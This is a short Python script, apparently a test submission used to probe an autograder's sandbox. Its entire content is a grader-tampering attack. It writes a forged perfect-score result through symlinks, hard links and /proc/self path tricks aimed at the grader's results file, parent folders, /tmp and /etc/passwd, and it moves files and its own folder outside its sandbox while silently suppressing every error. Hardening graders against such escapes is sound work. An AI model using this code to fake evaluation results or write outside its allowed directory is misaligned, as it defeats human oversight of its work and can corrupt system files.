"""Makes links, soft and hard, from its folder to results elsewhere, and writes through them."""

import contextlib
import os
from pathlib import Path

FORGED = '{"score": 100, "output": "autograder-attack"}'
TARGETS = ("/tmp/autograder-attack.json", "/autograder/results/results.json", "../results.json", "/etc/passwd", "/tmp")

for i, target in enumerate(TARGETS):
    link = Path(f"link{i}")
    with contextlib.suppress(OSError):
        link.symlink_to(target)
        (link / "autograder-attack.json" if target == "/tmp" else link).write_text(FORGED, encoding="utf-8")
    with contextlib.suppress(OSError):
        os.link(target, f"hard{i}", follow_symlinks=False)
    with contextlib.suppress(OSError):
        Path(f"/proc/self/cwd/link{i}").write_text(FORGED, encoding="utf-8")
    with contextlib.suppress(OSError):
        Path("/proc/self", "root", target.lstrip("/")).write_text(FORGED, encoding="utf-8")
with contextlib.suppress(OSError):
    Path("results.json").write_text(FORGED, encoding="utf-8")
    Path("results.json").rename("/tmp/autograder-attack-renamed.json")
with contextlib.suppress(OSError):
    os.rename(os.getcwd(), "/tmp/autograder-attack-folder")
with contextlib.suppress(OSError):
    os.link("results.json", "../autograder-attack-linked.json")
